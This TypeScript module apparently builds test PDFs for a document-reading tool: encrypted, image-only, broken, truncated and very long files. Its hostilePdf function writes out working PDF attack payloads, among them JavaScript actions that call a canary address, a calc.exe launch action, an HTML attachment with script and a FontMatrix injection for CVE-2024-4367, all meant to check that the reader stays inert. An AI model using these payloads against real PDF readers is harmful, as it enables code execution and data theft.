import { deflateSync } from 'node:zlib';
import { type PdfObject, pdfString, writeEncryptedPdf, writePdf } from './pdf-writer.ts';

const text = (content: string): Uint8Array => new Uint8Array(Buffer.from(content, 'latin1'));
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** A line each, from the top of a letter page down. */
const linesContent = (lines: readonly string[]): Uint8Array =>
  text(`BT /F1 11 Tf 14 TL 72 720 Td\n${lines.map((line) => `${pdfString(line)} Tj T*`).join('\n')}\nET`);

type PageContent = { readonly content: Uint8Array; readonly extra?: string };

/** Catalog, page tree, font, then a page and its content for each. `catalog` is added to the catalog's dictionary. */
const pagesOf = (
  pages: readonly PageContent[],
  catalog = '',
  more: readonly PdfObject[] = [],
): PdfObject[] => {
  const numbers = pages.map((_, index) => 4 + index * 2);
  const kids = numbers.map((number) => `${number} 0 R`).join(' ');
  return [
    { body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { body: `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>` },
    { body: font },
    ...pages.flatMap(({ content, extra = '' }, index): PdfObject[] => [
      {
        body:
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> ' +
          `/Contents ${5 + index * 2} 0 R ${extra} >>`,
      },
      { body: '<< >>', stream: content },
    ]),
    ...more,
  ];
};

const planLines = [
  'Lesson plan: fractions on a number line',
  'The class compares three fourths and five sixths.',
  'The teacher waits three seconds after each answer.',
];

const fileId = text('assay-odd-pdf-01');

/** Opens without a password; an owner password forbids copying and changing. */
export const ownerPasswordPdf = (): Uint8Array =>
  writeEncryptedPdf(pagesOf([{ content: linesContent(planLines) }]), {
    userPassword: '',
    ownerPassword: 'owner-of-the-plan',
    id: fileId,
  });

/** Cannot be opened without the password `open-sesame`. */
export const userPasswordPdf = (): Uint8Array =>
  writeEncryptedPdf(pagesOf([{ content: linesContent(planLines) }]), {
    userPassword: 'open-sesame',
    ownerPassword: 'owner-of-the-plan',
    id: fileId,
  });

/** A scan: two pages that are pictures and hold no text at all. */
export const noTextLayerPdf = (): Uint8Array => {
  const side = 120;
  const pixels = Uint8Array.from({ length: side * side }, (_, index) => {
    const [x, y] = [index % side, Math.floor(index / side)];
    // Grey lines as of handwriting on paper.
    return y % 12 < 2 && x > 10 && x < 105 - ((y * 7) % 40) ? 60 : 245;
  });
  const image: PdfObject = {
    body:
      `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray ` +
      '/BitsPerComponent 8 /Filter /FlateDecode >>',
    stream: deflateSync(pixels),
  };
  const page = {
    content: text('q 468 0 0 648 72 72 cm /Im1 Do Q'),
    extra: '/Resources << /XObject << /Im1 8 0 R >> >>',
  };
  const objects = pagesOf([page, page], '', [image]).map(({ body, ...rest }) => ({
    ...rest,
    body: body.replace('/Resources << /Font << /F1 3 0 R >> >> ', ''),
  }));
  return writePdf(objects);
};

/** Every offset of the cross-reference table is wrong, and so is where it is said to start. Readers rebuild it. */
export const brokenXrefPdf = (): Uint8Array => {
  const whole = Buffer.from(writePdf(pagesOf([{ content: linesContent(planLines) }]))).toString('latin1');
  return text(
    whole
      .replace(/^\d{10} 00000 n /gm, '0000000007 00000 n ')
      .replace(/startxref\n\d+/, 'startxref\n999999999'),
  );
};

/** The second half is missing, as after a download that broke off. */
export const truncatedPdf = (): Uint8Array => {
  const pages = Array.from({ length: 6 }, () => ({ content: linesContent(planLines) }));
  const whole = writePdf(pagesOf(pages));
  return whole.slice(0, Math.floor(whole.length / 2));
};

/** A header and nothing behind it that a reader could rebuild. */
export const hopelessPdf = (): Uint8Array => text(`%PDF-1.7\n${'no objects in here at all. '.repeat(40)}`);

/**
 * Wants to run scripts and to call somebody, in all ways a PDF has: JavaScript on opening, in the name tree, on the
 * page and on a link; links, forms and files elsewhere; a program to launch; an embedded page of HTML; and a font matrix
 * that tries to become code (CVE-2024-4367). `canary` is an address that must never be asked.
 */
export const hostilePdf = (canary: string): Uint8Array => {
  const script = (name: string): string =>
    `<< /S /JavaScript /JS ${pdfString(
      `globalThis.canary = '${name}'; try { top.canary = '${name}'; } catch (e) {} ` +
        `try { fetch('${canary}/${name}'); } catch (e) {} try { app.launchURL('${canary}/${name}', true); } catch (e) {} ` +
        `try { this.submitForm('${canary}/${name}'); } catch (e) {} try { app.alert('${name}'); } catch (e) {}`,
    )} >>`;
  const link = (action: string, y: number): string =>
    `<< /Type /Annot /Subtype /Link /Rect [72 ${y} 300 ${y + 20}] /Border [0 0 1] /A ${action} >>`;
  const links = [
    link(`<< /S /URI /URI ${pdfString(`${canary}/uri`)} >>`, 600),
    link(`<< /S /URI /URI ${pdfString("javascript:top.canary='uri'")} >>`, 570),
    link('<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>', 540),
    link(`<< /S /GoToR /F << /FS /URL /F ${pdfString(`${canary}/elsewhere.pdf`)} >> /D [0 /Fit] >>`, 510),
    link(`<< /S /SubmitForm /F << /FS /URL /F ${pdfString(`${canary}/form`)} >> >>`, 480),
    link(script('link'), 450),
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 400 300 420] /V (a) ' +
      `/AA << /F ${script('format')} /K ${script('keystroke')} >> >>`,
  ].join(' ');
  const page = {
    content: text('BT /F1 14 Tf 72 700 Td (The words stay readable.) Tj ET BT /F2 14 Tf 72 660 Td (A) Tj ET'),
    extra:
      `/Annots [${links}] /AA << /O ${script('page')} >> ` +
      '/Resources << /Font << /F1 3 0 R /F2 8 0 R >> >>',
  };
  const attachment: PdfObject = {
    body: '<< /Type /EmbeddedFile /Subtype /text#2Fhtml >>',
    stream: text(`<script>top.canary = 'attachment'; fetch('${canary}/attachment')</script>`),
  };
  const file = { body: '<< /Type /Filespec /F (open-me.html) /EF << /F 6 0 R >> >>' };
  const injection = "1\\); globalThis.canary='font'; //";
  const badFont: PdfObject = {
    body:
      '<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FirstChar 65 /LastChar 65 /Widths [600] ' +
      `/FontMatrix [0.001 0 0 0.001 0 (${injection})] ` +
      '/FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontFile 9 0 R >> >>',
  };
  const fontProgram: PdfObject = {
    body: '<< /Length1 120 /Length2 0 /Length3 0 >>',
    stream: text(
      `%!PS-AdobeFont-1.0: Odd\n/FontName /Odd def\n/FontMatrix [0.001 0 0 0.001 0 (${injection})] readonly def\n`,
    ),
  };
  const catalog =
    `/OpenAction ${script('open')} /Names << /JavaScript << /Names [(boot) ${script('names')}] >> ` +
    '/EmbeddedFiles << /Names [(open-me.html) 7 0 R] >> >> /AcroForm << /Fields [] /NeedAppearances true >>';
  const objects = pagesOf([page], catalog, [attachment, file, badFont, fontProgram]).map(
    ({ body, ...rest }) => ({ ...rest, body: body.replace('/Resources << /Font << /F1 3 0 R >> >> ', '') }),
  );
  return writePdf(objects);
};

const words = (
  'the class compares two lengths and a student says why one is longer while the teacher waits for a second ' +
  'answer before anybody writes the sum so that every table has time to think about the missing piece'
).split(' ');

/** The words of line `line` of page `page`: no two pages read the same, and sentences run over the page breaks. */
const longLine = (page: number, line: number): string => {
  const from = page * 41 + line * 7;
  const said = Array.from({ length: 12 }, (_, index) => words[(from + index * 5) % words.length]);
  return `${line === 0 ? `Page ${page + 1}. ` : ''}${said.join(' ')}${(page + line) % 9 === 4 ? '.' : ''}`;
};

/** A long document with text on every page (40 lines; about 4 kB a page). Page n begins with the words "Page n.". */
export const longPdf = (pages = 1500): Uint8Array =>
  writePdf(
    pagesOf(
      Array.from({ length: pages }, (_, page) => ({
        content: linesContent(Array.from({ length: 40 }, (_, line) => longLine(page, line))),
      })),
    ),
  );
